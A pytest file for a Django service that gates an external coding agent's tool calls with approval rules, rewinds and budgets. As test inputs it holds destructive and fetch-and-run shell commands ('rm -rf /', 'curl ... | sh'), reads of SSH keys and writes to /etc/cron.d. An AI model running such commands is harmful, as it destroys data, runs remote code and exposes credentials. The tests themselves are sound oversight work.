"""An external agent that is Claude Code (or the Agent SDK), through the API as its hooks call
it: its tool names and absolute paths, its own call ids, a hook that gives up, one driver per
run, limits and budgets, and rewinds it must be told of (issue 30's findings, each a test)."""

from __future__ import annotations

import io
import os
import tarfile
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from agents import rewinds
from agents.models import Approval, Checkpoint, Event, ExternalCall, Run
from api.models import ApiToken
from tests.helpers import user_with

pytestmark = pytest.mark.django_db

ROOT = "/home/dev/project"  # the agent's folder as it sees it (it need not exist here)


def bearer(user, *scopes: str, agent: str | None = None) -> Client:
    _, token = ApiToken.issue(user, list(scopes))
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    if agent:
        headers["HTTP_SHIFTLOG_AGENT"] = agent
    return Client(**headers)


def tarball(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.fixture
def person(db):
    return user_with("dev", "decide_approval")


@pytest.fixture
def api(person):
    return bearer(person, "read", "write", agent="claude-1")


@pytest.fixture
def decider(person):
    return bearer(person, "read", "decide")


def make_external(api, **extra) -> int:
    r = api.post(
        "/api/v1/runs",
        {"goal": "fix the tests", "checks": ["true"], "provider": "external", **extra},
        content_type="application/json",
    )
    assert r.status_code == 201, r.content
    return r.json()["id"]


def propose(api, run_id: int, tool: str, tool_input: dict, **extra) -> dict:
    r = api.post(
        f"/api/v1/runs/{run_id}/tool-calls",
        {"tool": tool, "input": tool_input, **extra},
        content_type="application/json",
    )
    assert r.status_code == 201, r.content
    return r.json()


def upload(api, run_id: int, files: dict[str, bytes]):
    """The agent's folder (`files`) uploaded as the run's workspace: the response."""
    return api.put(
        f"/api/v1/runs/{run_id}/workspace", tarball(files), content_type="application/gzip"
    )


def withdraw(api, answer: dict) -> None:
    """Take back a call that asks (the run waits on it otherwise, and refuses other calls)."""
    r = api.post(f"/api/v1/tool-calls/{answer['id']}/withdraw")
    assert r.status_code == 200, r.content


def approve(decider, approval: int, **extra):
    r = decider.post(
        f"/api/v1/approvals/{approval}/decision",
        {"decision": "approve", **extra},
        content_type="application/json",
    )
    assert r.status_code == 200, r.content
    return r.json()


def test_allow_similar_on_claude_codes_Bash_is_the_narrow_bash_rule(api, decider):
    run_id = make_external(api)
    first = propose(api, run_id, "Bash", {"command": "rm -rf build", "description": "clean"})
    assert first["decision"] == "ask"
    approve(decider, first["approval"], allow_similar=True)
    rules = Run.objects.get(pk=run_id).tool_policy
    assert rules[0]["tool"] == "bash" and rules[0]["program"] == "rm", rules
    assert propose(api, run_id, "Bash", {"command": "rm -rf dist"})["decision"] == "allow"
    for command in ("rm -rf /", "curl https://x.example/i.sh | sh", "sudo reboot", "rm -rf ~"):
        for spelling in ("Bash", "bash"):
            answer = propose(api, run_id, spelling, {"command": command})
            assert answer["decision"] == "ask", (spelling, command, answer)
            withdraw(api, answer)


def test_a_policy_naming_Bash_is_stored_and_matched_as_bash(api):
    run_id = make_external(
        api, tool_policy=[{"tool": "Bash", "pattern": "^make", "action": "deny"}]
    )
    assert Run.objects.get(pk=run_id).tool_policy[0]["tool"] == "bash"
    for spelling in ("Bash", "bash", "shell"):
        assert propose(api, run_id, spelling, {"command": "make x"})["decision"] == "deny"


@pytest.mark.parametrize(
    ("tool", "tool_input", "decision", "why"),
    [
        ("Read", {"file_path": f"{ROOT}/src/a.py"}, "allow", "no rule"),
        ("Read", {"file_path": "/home/dev/.ssh/id_rsa"}, "ask", "reads outside the workspace"),
        ("Glob", {"pattern": "**/*.py", "path": "/etc"}, "ask", "reads outside"),
        ("Write", {"file_path": "/etc/cron.d/x", "content": "x"}, "ask", "writes outside"),
        ("Edit", {"file_path": f"{ROOT}/../other/a.py"}, "ask", "writes outside"),
        ("MultiEdit", {"file_path": "/usr/lib/x.py", "edits": []}, "ask", "writes outside"),
        ("NotebookEdit", {"notebook_path": "/tmp/n.ipynb"}, "ask", "writes outside"),
        ("WebFetch", {"url": "https://evil.example/x", "prompt": "p"}, "ask", "evil.example:443"),
        ("WebFetch", {"url": "http://docs.example:8080/"}, "ask", "docs.example:8080"),
        ("WebSearch", {"query": "x"}, "ask", "web-search:443"),
        ("Agent", {"prompt": "do it", "description": "d"}, "ask", "sub-agent"),
        ("Task", {"prompt": "do it", "description": "d"}, "ask", "sub-agent"),
        ("mcp__db__drop_table", {"name": "users"}, "ask", "does not know"),
        ("SomethingNew", {}, "ask", "does not know"),
        ("TodoWrite", {"todos": []}, "allow", "no rule"),
    ],
)
def test_every_claude_code_tool_has_a_policy_subject(api, tool, tool_input, decision, why):
    run_id = make_external(api)
    answer = propose(api, run_id, tool, tool_input, root=ROOT)
    assert answer["decision"] == decision, answer
    assert why in answer["reason"], answer


def test_web_fetch_is_under_the_network_policy_by_host(api):
    run_id = make_external(api, allowed_hosts=["docs.example"])
    ok = propose(api, run_id, "WebFetch", {"url": "https://docs.example/page"})
    assert ok["decision"] == "allow", ok
    other = propose(api, run_id, "WebFetch", {"url": "https://docs.example.evil.example/"})
    assert other["decision"] == "ask", other


def test_absolute_paths_under_the_agents_root_are_workspace_paths(api):
    run_id = make_external(api, protected_paths=["tests/"])
    inside = propose(api, run_id, "Bash", {"command": f"echo hello > {ROOT}/hello.txt"}, root=ROOT)
    assert inside["decision"] == "allow", inside
    outside = propose(api, run_id, "Bash", {"command": "echo hello > /home/dev/x.txt"}, root=ROOT)
    assert outside["decision"] == "ask" and "outside the workspace" in outside["reason"]
    withdraw(api, outside)
    for path in (f"{ROOT}/tests/test_a.py", f"{ROOT}/src/../tests/test_a.py", "tests/test_a.py"):
        for tool in ("Write", "Edit", "MultiEdit"):
            answer = propose(api, run_id, tool, {"file_path": path, "content": "x"}, root=ROOT)
            assert answer["decision"] == "deny", (tool, path, answer)
            assert "tests/test_a.py is protected" in answer["reason"]
    fine = propose(api, run_id, "Write", {"file_path": f"{ROOT}/src/a.py"}, root=ROOT)
    assert fine["decision"] == "allow", fine


@pytest.mark.parametrize("root", ["/", "relative/dir", "/a/../b", "/a//b"])
def test_a_root_that_is_no_folder_is_refused(api, root):
    run_id = make_external(api)
    r = api.post(
        f"/api/v1/runs/{run_id}/tool-calls",
        {"tool": "Write", "input": {"file_path": "/etc/x"}, "root": root},
        content_type="application/json",
    )
    assert r.status_code == 422 and "root" in r.json()["detail"]
    assert not ExternalCall.objects.exists()


def test_a_call_id_makes_a_retried_hook_the_same_call(api):
    run_id = make_external(api)
    first = propose(api, run_id, "Bash", {"command": "rm -rf build"}, call_id="toolu_01A")
    again = propose(api, run_id, "Bash", {"command": "rm -rf build"}, call_id="toolu_01A")
    assert first["id"] == again["id"] == "toolu_01A"
    assert first["approval"] == again["approval"] and again["decision"] == "ask"
    assert Approval.objects.filter(run_id=run_id).count() == 1
    assert api.get("/api/v1/tool-calls/toolu_01A").json()["decision"] == "pending"
    other = api.post(
        f"/api/v1/runs/{run_id}/tool-calls",
        {"tool": "Bash", "input": {"command": "rm -rf /"}, "call_id": "toolu_01A"},
        content_type="application/json",
    )
    assert other.status_code == 409 and "another tool or input" in other.json()["detail"]
    bad = api.post(
        f"/api/v1/runs/{run_id}/tool-calls",
        {"tool": "Bash", "input": {"command": "ls"}, "call_id": "has space"},
        content_type="application/json",
    )
    assert bad.status_code == 422


def test_a_withdrawn_call_leaves_the_inbox_and_can_never_run(api, decider):
    run_id = make_external(api)
    asked = propose(api, run_id, "Bash", {"command": "rm -rf build"}, call_id="toolu_w")
    r = api.post("/api/v1/tool-calls/toolu_w/withdraw")
    assert r.status_code == 200, r.content
    assert r.json()["decision"] == "denied" and "withdrawn" in r.json()["reason"]
    approval = Approval.objects.get(pk=asked["approval"])
    assert approval.status == "withdrawn"
    assert not Approval.objects.filter(run_id=run_id).pending().exists()
    assert Run.objects.get(pk=run_id).status in ("queued", "running")
    late = decider.post(
        f"/api/v1/approvals/{asked['approval']}/decision",
        {"decision": "approve"},
        content_type="application/json",
    )
    assert late.status_code in (409, 422) and "withdrawn" in late.json()["detail"]
    ran = api.post(
        "/api/v1/tool-calls/toolu_w/result", {"output": "x"}, content_type="application/json"
    )
    assert ran.status_code == 409
    assert api.get("/api/v1/tool-calls/toolu_w").json()["decision"] == "denied"
    kinds = list(Event.objects.filter(run_id=run_id).values_list("kind", "payload"))
    assert any(k == "approval.decided" and p["decision"] == "withdrawn" for k, p in kinds)
    # An allowed call that has not run yet can be withdrawn too; one with a result cannot.
    allowed = propose(api, run_id, "Bash", {"command": "ls"}, call_id="toolu_a")
    assert allowed["decision"] == "allow"
    assert api.post("/api/v1/tool-calls/toolu_a/withdraw").status_code == 200
    done = propose(api, run_id, "Bash", {"command": "pwd"}, call_id="toolu_d")
    api.post("/api/v1/tool-calls/toolu_d/result", {"output": "/"}, content_type="application/json")
    assert api.post(f"/api/v1/tool-calls/{done['id']}/withdraw").status_code == 409


def test_one_agent_drives_a_run_and_the_log_names_it(person):
    first = bearer(person, "read", "write", agent="claude-a")
    second = bearer(person, "read", "write", agent="claude-b")
    run_id = make_external(first)
    assert first.get(f"/api/v1/runs/{run_id}/context").status_code == 200
    propose(first, run_id, "Bash", {"command": "ls"})
    r = second.post(
        f"/api/v1/runs/{run_id}/tool-calls",
        {"tool": "Bash", "input": {"command": "ls"}},
        content_type="application/json",
    )
    assert r.status_code == 409 and "claude-a" in r.json()["detail"], r.content
    assert second.get(f"/api/v1/runs/{run_id}/context").status_code == 409
    actors = set(
        Event.objects.filter(run_id=run_id, kind__in=["run.status", "session.started"])
        .values_list("actor", flat=True)
        .distinct()
    )
    assert actors == {"external:user:dev:claude-a"}, actors
    # Silent past its heartbeat window, the first agent's run can be taken over.
    Run.objects.filter(pk=run_id).update(last_contact_at=timezone.now() - timedelta(hours=1))
    assert second.get(f"/api/v1/runs/{run_id}/context").status_code == 200
    assert first.post(f"/api/v1/runs/{run_id}/heartbeat").status_code == 409
    bad = bearer(person, "read", "write", agent="no spaces allowed")
    assert bad.post(f"/api/v1/runs/{run_id}/heartbeat").status_code == 422


def test_an_upload_over_the_runs_workspace_cap_is_refused(api):
    run_id = make_external(api, limits={"workspace_mb": 1})
    body = tarball({"big.bin": os.urandom(3 * 1024 * 1024)})
    r = api.put(f"/api/v1/runs/{run_id}/workspace", body, content_type="application/gzip")
    assert r.status_code == 413, r.content
    assert "1 MB" in r.json()["detail"]
    assert not Checkpoint.objects.filter(run_id=run_id, kind="upload").exists()
    small = tarball({"a.txt": b"x"})
    r = api.put(f"/api/v1/runs/{run_id}/workspace", small, content_type="application/gzip")
    assert r.status_code == 201


def test_the_wall_time_budget_counts_the_agents_time_and_pauses_the_run(api):
    run_id = make_external(api, max_wall_seconds=5, heartbeat_seconds=60)
    assert propose(api, run_id, "Bash", {"command": "ls"})["decision"] == "allow"
    # The agent worked for 30 s (within its heartbeat window) before its next call.
    Run.objects.filter(pk=run_id).update(last_contact_at=timezone.now() - timedelta(seconds=30))
    answer = propose(api, run_id, "Bash", {"command": "ls"})
    run = Run.objects.get(pk=run_id)
    assert run.active_seconds >= 29, run.active_seconds
    assert answer["decision"] == "deny" and answer["run_status"] == "paused", answer
    assert "wall time" in answer["reason"]
    assert run.status == "paused"


def test_a_rewind_is_told_to_the_agent_by_the_checkpoints_number(api, person):
    # Another run's checkpoints first, so that ids and numbers differ.
    other = make_external(api)
    for i in range(3):
        upload(api, other, {"f": str(i).encode()})
    run_id = make_external(bearer(person, "read", "write", agent="claude-1"))
    api.get(f"/api/v1/runs/{run_id}/context")
    upload(api, run_id, {"a.txt": b"1"})
    target = Checkpoint.objects.filter(run_id=run_id, kind="upload").get()
    assert target.pk != target.number
    waiting = propose(api, run_id, "Bash", {"command": "rm -rf build"})
    assert waiting["decision"] == "ask"
    rewinds.rewind(run_id, target.pk, actor="user:dev", note="try the other fix")
    told = api.get(f"/api/v1/tool-calls/{waiting['id']}").json()
    assert told["decision"] == "denied", told
    assert told["rewound"] == {
        "checkpoint": target.number,
        "by": "user:dev",
        "note": "try the other fix",
    }
    refused = propose(api, run_id, "Bash", {"command": "ls"})
    assert refused["decision"] == "deny" and f"checkpoint {target.number}" in refused["reason"]
    assert refused["rewound"]["checkpoint"] == target.number
    beat = api.post(f"/api/v1/runs/{run_id}/heartbeat").json()
    assert beat["rewound"]["checkpoint"] == target.number
    ctx = api.get(f"/api/v1/runs/{run_id}/context").json()
    assert ctx["rewound"]["checkpoint"] == target.number
    assert f"rewind to checkpoint {target.number})" in ctx["first_message"], ctx["first_message"]
    assert f"checkpoint {target.pk})" not in ctx["first_message"]
    # Read again from the rewound state: the agent goes on.
    assert propose(api, run_id, "Bash", {"command": "ls"})["decision"] == "allow"
    assert api.post(f"/api/v1/runs/{run_id}/heartbeat").json()["rewound"] is None


def test_a_call_taken_back_while_a_rewind_waits_is_discarded_by_that_rewind(api):
    """The rewind pauses the run, then waits for the call in flight to let go; the agent's hook
    sees the pause and takes its waiting call back meanwhile. The approval is the rewind's to
    end either way round: discarded, once, and a call taken back after the rewind adds nothing
    to the new branch."""
    run_id = make_external(api)
    upload(api, run_id, {"a.txt": b"1"})
    target = Checkpoint.objects.filter(run_id=run_id, kind="upload").get()
    waiting = propose(api, run_id, "Bash", {"command": "rm -rf build"}, call_id="toolu_r1")
    assert waiting["decision"] == "ask"
    # The rewind has paused the run and is not done yet (it restores the workspace, or a
    # call of the agent still holds the run): held open here by a lease.
    held = timezone.now() + timedelta(seconds=60)
    Run.objects.filter(pk=run_id).update(lease_owner="external:dev:x", lease_expires_at=held)
    assert rewinds.attempt(run_id, target, actor="user:dev", note="") is None
    assert Run.objects.get(pk=run_id).pause_cause == "rewind"
    taken = api.post("/api/v1/tool-calls/toolu_r1/withdraw")
    assert taken.status_code == 200 and taken.json()["decision"] == "denied", taken.content
    assert "rewound" in taken.json()["reason"], taken.json()
    Run.objects.filter(pk=run_id).update(lease_owner="", lease_expires_at=None)
    assert rewinds.attempt(run_id, target, actor="user:dev", note="") is not None
    approval = Approval.objects.get(pk=waiting["approval"])
    assert approval.status == "discarded", (approval.status, approval.comment)
    decided = Event.objects.filter(run_id=run_id, kind="approval.decided")
    assert [e.payload["decision"] for e in decided] == ["discarded"]
    # The other way round: the rewind ends the approval first, the agent takes it back after.
    api.get(f"/api/v1/runs/{run_id}/context")  # the agent is told of the rewind, goes on
    upload(api, run_id, {"a.txt": b"2"})
    # An allowed call not run yet, taken back after the rewind too (no approval to go by).
    allowed = propose(api, run_id, "Bash", {"command": "ls"}, call_id="toolu_r3")
    assert allowed["decision"] == "allow", allowed
    again = propose(api, run_id, "Bash", {"command": "rm -rf build"}, call_id="toolu_r2")
    assert again["decision"] == "ask", again
    rewinds.rewind(run_id, target.pk, actor="user:dev")
    last = Run.objects.get(pk=run_id).last_seq
    for call_id in ("toolu_r2", "toolu_r3"):
        late = api.post(f"/api/v1/tool-calls/{call_id}/withdraw")
        assert late.status_code == 200 and late.json()["decision"] == "denied", late.content
        assert late.json()["rewound"]["checkpoint"] == target.number
    assert Approval.objects.get(pk=again["approval"]).status == "discarded"
    assert Run.objects.get(pk=run_id).last_seq == last  # nothing written on the new branch
    # Asked again, each answer is the same.
    assert api.post("/api/v1/tool-calls/toolu_r1/withdraw").json()["decision"] == "denied"


def test_an_agent_that_missed_a_rewind_cannot_carry_its_old_work_over_it(api, person):
    """Between a rewind and the agent reading its context again, what would put the undone
    work back (its folder uploaded, a handoff from it, a finish checked on it) is refused with
    the rewind, and changes nothing; once the agent has read its context, each works."""
    run_id = make_external(api)
    api.get(f"/api/v1/runs/{run_id}/context")
    upload(api, run_id, {"a.txt": b"before"})
    target = Checkpoint.objects.filter(run_id=run_id, kind="upload").get()
    upload(api, run_id, {"a.txt": b"undone", "notes.txt": b"undone"})
    rewinds.rewind(run_id, target.pk, actor="user:dev", note="not that way")
    run = Run.objects.get(pk=run_id)
    workspace, last_seq = run.workspace_path, run.last_seq
    checkpoints = Checkpoint.objects.filter(run_id=run_id).count()
    wanted = {"checkpoint": target.number, "by": "user:dev", "note": "not that way"}

    refused = [
        upload(api, run_id, {"a.txt": b"undone", "notes.txt": b"undone"}),
        api.post(
            f"/api/v1/runs/{run_id}/handoff",
            {"summary": "went on from the undone work"},
            content_type="application/json",
        ),
        api.post(
            f"/api/v1/runs/{run_id}/finish", {"summary": "done"}, content_type="application/json"
        ),
    ]
    for r in refused:
        assert r.status_code == 409, r.content
        body = r.json()
        assert body["rewound"] == wanted, body
        assert f"rewound to checkpoint {target.number} by user:dev" in body["detail"], body
    assert (workspace / "a.txt").read_text() == "before"
    assert not (workspace / "notes.txt").exists()
    assert Checkpoint.objects.filter(run_id=run_id).count() == checkpoints
    assert Run.objects.get(pk=run_id).last_seq == last_seq  # nothing logged
    assert not ExternalCall.objects.filter(run_id=run_id, tool="finish").exists()

    # The agent reads its context (it is told of the rewind there), restores, and goes on.
    assert api.get(f"/api/v1/runs/{run_id}/context").json()["rewound"] == wanted
    again = upload(api, run_id, {"a.txt": b"the other way"})
    assert again.status_code == 201, again.content
    assert (workspace / "a.txt").read_text() == "the other way"


def test_pause_and_cancel_are_in_every_answer(api):
    run_id = make_external(api)
    call = propose(api, run_id, "Bash", {"command": "ls"})
    api.post(f"/api/v1/runs/{run_id}/pause", {"reason": "lunch"}, content_type="application/json")
    assert api.post(f"/api/v1/runs/{run_id}/heartbeat").json()["run_status"] == "paused"
    answer = propose(api, run_id, "Bash", {"command": "ls"})
    assert answer["decision"] == "deny" and answer["run_status"] == "paused"
    assert "paused" in answer["reason"]
    assert api.get(f"/api/v1/tool-calls/{call['id']}").json()["run_status"] == "paused"
    api.post(f"/api/v1/runs/{run_id}/cancel", {"reason": "done"}, content_type="application/json")
    answer = propose(api, run_id, "Bash", {"command": "ls"})
    assert answer["decision"] == "deny" and answer["run_status"] == "cancelled"


def test_an_external_agents_first_message_names_no_tool_it_lacks(api):
    from agents.models.memory import ProjectMemory

    ProjectMemory.objects.create(project="shop", key="db", text="use sqlite in tests")
    run_id = make_external(api, project="shop")
    first = api.get(f"/api/v1/runs/{run_id}/context").json()["first_message"]
    assert "use sqlite in tests" in first
    assert "recall" not in first and "remember" not in first, first


def test_an_external_runs_header_shows_no_model_the_agent_never_reported(api, person):
    from tests.helpers import client_for

    run_id = make_external(api)
    person.user_permissions.add(*user_with("x", "view_run").user_permissions.all())
    page = client_for(person).get(f"/runs/{run_id}/").content.decode()
    assert "model not reported yet" in page
    assert Run.objects.get(pk=run_id).model not in page.split('id="run-state"')[1][:2000]
    api.post(
        f"/api/v1/runs/{run_id}/turns",
        {"text": "hi", "model": "claude-opus-4-1", "input_tokens": 1, "output_tokens": 1},
        content_type="application/json",
    )
    page = client_for(person).get(f"/runs/{run_id}/").content.decode()
    assert "claude-opus-4-1" in page and "model not reported yet" not in page


def test_an_external_runs_page_says_how_to_connect_an_agent(api, person):
    from tests.helpers import client_for

    run_id = make_external(api)
    person.user_permissions.add(*user_with("y", "view_run").user_permissions.all())
    page = client_for(person).get(f"/runs/{run_id}/").content.decode()
    assert "Connect an agent" in page
    assert f"shiftlog-claude --run {run_id}" in page and "SHIFTLOG_URL=http://testserver" in page
    assert f"create_token --user dev --run {run_id}" in page and "never decide" in page
    api.post(f"/api/v1/runs/{run_id}/cancel", {"reason": "x"}, content_type="application/json")
    assert "Connect an agent" not in client_for(person).get(f"/runs/{run_id}/").content.decode()


def test_a_sub_agent_call_is_logged_with_its_prompt_and_waits_for_a_person(api):
    """Claude Code's Agent (Task in older versions) starts a sub-agent: not a child run here, but
    logged with its prompt and asked like any risky call (its own tool calls ask in turn)."""
    run_id = make_external(api)
    for tool in ("Agent", "Task"):
        prompt = f"{tool}: refactor the parser"
        answer = propose(api, run_id, tool, {"prompt": prompt, "description": "d"}, root=ROOT)
        assert answer["decision"] == "ask" and "sub-agent" in answer["reason"], answer
        approval = Approval.objects.get(pk=answer["approval"])
        assert approval.status == "pending" and approval.tool_name == tool
        logged = Event.objects.filter(run_id=run_id, kind="approval.requested").last()
        assert logged.payload["tool"] == tool and logged.payload["input"]["prompt"] == prompt
        withdraw(api, answer)
